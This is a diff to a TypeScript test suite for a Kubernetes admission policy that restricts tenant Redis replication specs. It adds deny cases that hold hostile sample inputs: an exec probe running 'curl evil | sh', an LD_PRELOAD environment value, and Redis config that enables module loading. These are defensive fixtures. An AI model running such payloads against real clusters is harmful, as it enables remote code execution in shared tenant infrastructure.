@@ -11,6 +11,10 @@ import { validateObject } from "../../helpers/k8s-schema";
 import { messagesOf, planned, tenantNamespace } from "../../helpers/policy-fixtures";
 import { ROOT } from "../../helpers/synth";
 import { project, stackPlatformConfig } from "../project/fixtures";
+import * as fs from "node:fs";
+import * as path from "node:path";
+import * as yaml from "js-yaml";
+import { REDIS_ALLOWED_FIELDS, REDIS_REFUSED_FIELDS } from "../../../policy/rules/tenancy/redis-replication";
 
 /**
  * The admission twin of `tenancy-redis-replication` (platform-tenant-redis): the API server model
@@ -48,7 +52,8 @@ const CASES: Array<{ title: string; kind?: string; spec: Spec; expected: "admit"
     { title: "another exporter image", spec: spec({ redisExporter: { ...base.redisExporter, image: "docker.io/oliver006/redis_exporter:v1.50.0" } }), expected: "deny" },
     { title: "a LoadBalancer Service", spec: kubernetesConfig({ service: { serviceType: "LoadBalancer" } }), expected: "deny" },
     { title: "a NodePort additional Service", spec: kubernetesConfig({ service: { additional: { type: "NodePort" } } }), expected: "deny" },
-    { title: "ClusterIP Services spelled out", spec: kubernetesConfig({ service: { serviceType: "ClusterIP", headless: { type: "ClusterIP" } } }), expected: "admit" },
+    // The platform renders no Service settings; even ClusterIP ones carry annotations of the tenant's onto the operator's Services.
+    { title: "ClusterIP Services spelled out", spec: kubernetesConfig({ service: { serviceType: "ClusterIP", headless: { type: "ClusterIP" } } }), expected: "deny" },
     { title: "no persistence", spec: spec({ storage: undefined }), expected: "deny" },
     { title: "a class no backup covers", spec: storage({ volumeClaimTemplate: { spec: { ...base.storage.volumeClaimTemplate.spec, storageClassName: "local-path" } } }), expected: "deny" },
     { title: "volumes deleted with the object", spec: storage({ keepAfterDelete: false }), expected: "deny" },
@@ -58,6 +63,25 @@ const CASES: Array<{ title: string; kind?: string; spec: Spec; expected: "admit"
     { title: "a ServiceAccount of its own", spec: spec({ serviceAccountName: "database" }), expected: "deny" },
     { title: "a host port", spec: spec({ hostPort: 6379 }), expected: "deny" },
     { title: "more members than the limit", spec: spec({ clusterSize: 4 }), expected: "deny" },
+    // The operator's pods run outside gVisor (review 19, findings 2 and 9): nothing that runs or configures code.
+    { title: "an exec liveness probe (the tenant's command in the unsandboxed Redis container)", spec: spec({ livenessProbe: { exec: { command: ["sh", "-c", "curl evil | sh"] } } }), expected: "deny" },
+    { title: "an exec readiness probe", spec: spec({ readinessProbe: { exec: { command: ["sh", "-c", "id"] } } }), expected: "deny" },
+    { title: "an HTTP liveness probe (no probe of the tenant's at all)", spec: spec({ livenessProbe: { tcpSocket: { port: 6379 } } }), expected: "deny" },
+    { title: "environment for the Redis container", spec: spec({ env: [{ name: "EXTERNAL_CONFIG_FILE", value: "/data/evil.conf" }] }), expected: "deny" },
+    { title: "environment for the exporter", spec: spec({ redisExporter: { ...base.redisExporter, env: [{ name: "LD_PRELOAD", value: "/data/x.so" }] } }), expected: "deny" },
+    { title: "an additional Redis config (a ConfigMap with loadmodule)", spec: spec({ redisConfig: { additionalRedisConfig: "evil-redis-conf" } }), expected: "deny" },
+    { title: "dynamic Redis config (CONFIG SET by the operator)", spec: spec({ redisConfig: { dynamicConfig: ["enable-module-command yes", "dir /tmp"] } }), expected: "deny" },
+    { title: "a memory percentage (any redisConfig)", spec: spec({ redisConfig: { maxMemoryPercentOfLimit: 80 } }), expected: "deny" },
+    { title: "additional Sentinel config", spec: spec({ sentinel: { ...base.sentinel, additionalSentinelConfig: "evil-sentinel-conf" } }), expected: "deny" },
+    { title: "Sentinel settings the platform does not render", spec: spec({ sentinel: { ...base.sentinel, downAfterMilliseconds: "1" } }), expected: "deny" },
+    { title: "a Sentinel ServiceAccount", spec: spec({ sentinel: { ...base.sentinel, serviceAccountName: "deployer" } }), expected: "deny" },
+    { title: "TLS from a Secret of the tenant's", spec: spec({ TLS: { secret: { secretName: "anything" } } }), expected: "deny" },
+    { title: "an ACL Secret mount", spec: spec({ acl: { secret: { secretName: "anything" } } }), expected: "deny" },
+    { title: "a priority class", spec: spec({ priorityClassName: "system-cluster-critical" }), expected: "deny" },
+    { title: "pull credentials", spec: kubernetesConfig({ imagePullSecrets: [{ name: "regcred" }] }), expected: "deny" },
+    { title: "a claim template with a selector", spec: storage({ volumeClaimTemplate: { spec: { ...base.storage.volumeClaimTemplate.spec, selector: { matchLabels: { a: "b" } } } } }), expected: "deny" },
+    { title: "claims deleted with the StatefulSet (review 19, 8a)", spec: kubernetesConfig({ persistentVolumeClaimRetentionPolicy: { whenDeleted: "Delete", whenScaled: "Retain" } }), expected: "deny" },
+    { title: "no claim retention policy", spec: kubernetesConfig({ persistentVolumeClaimRetentionPolicy: undefined }), expected: "deny" },
 ];
 
 describe("platform-tenant-redis (admission twin of tenancy-redis-replication)", () => {
@@ -72,6 +96,39 @@ describe("platform-tenant-redis (admission twin of tenancy-redis-replication)", 
         const outcome = decide(kind ?? "RedisReplication", objectSpec);
         expect(outcome.admission, outcome.messages.join("; ")).toBe(expected);
         expect(outcome.pack).toBe(expected);
+    });
+
+    it("allows exactly the fields the program renders (with and without Sentinel), nothing more", () => {
+        const single = renderRedisReplication(projectContext(project({ name: "shop", redis: {} }), config)).spec as Spec;
+        const rendered = new Map<string, Set<string>>();
+        for (const group of [base, single]) {
+            for (const path of Object.keys(REDIS_ALLOWED_FIELDS)) {
+                const value = path === "" ? group : path.split(".").reduce((v: any, k) => v?.[k], group);
+                for (const key of Object.keys(value ?? {})) {
+                    rendered.set(path, new Set([...(rendered.get(path) ?? []), key]));
+                }
+            }
+        }
+        for (const [path, allowed] of Object.entries(REDIS_ALLOWED_FIELDS)) {
+            expect([...(rendered.get(path) ?? [])].sort(), path || "spec").toEqual([...allowed].sort());
+        }
+    });
+
+    it("has audited every field of the pinned v0.26.0 CRD at each level it allows: allowed, or refused with a reason", () => {
+        const crd = yaml.load(fs.readFileSync(path.join(ROOT, "charts/redis-operator/crd-redisreplications.yaml"), "utf8")) as any;
+        const schema = crd.spec.versions.find((v: any) => v.name === "v1beta2").schema.openAPIV3Schema.properties.spec;
+        for (const [level, allowed] of Object.entries(REDIS_ALLOWED_FIELDS)) {
+            const node = level === "" ? schema : level.split(".").reduce((n: any, k) => n.properties[k], schema);
+            for (const field of Object.keys(node.properties ?? {})) {
+                const full = level === "" ? field : `${level}.${field}`;
+                const audited = allowed.includes(field) || full in REDIS_REFUSED_FIELDS;
+                expect(audited, `${full} is neither allowed nor explained in REDIS_REFUSED_FIELDS`).toBe(true);
+            }
+        }
+        // Fields that put code or configuration into the unsandboxed pods are refused with their reason.
+        for (const field of ["livenessProbe", "readinessProbe", "env", "redisConfig", "initContainer", "sidecars", "redisExporter.env", "storage.volumeMount", "sentinel.additionalSentinelConfig"]) {
+            expect(REDIS_REFUSED_FIELDS[field], field).toBeDefined();
+        }
     });
 
     it("gets a raised instance limit in the pack's config file too, as the database rule does", () => {
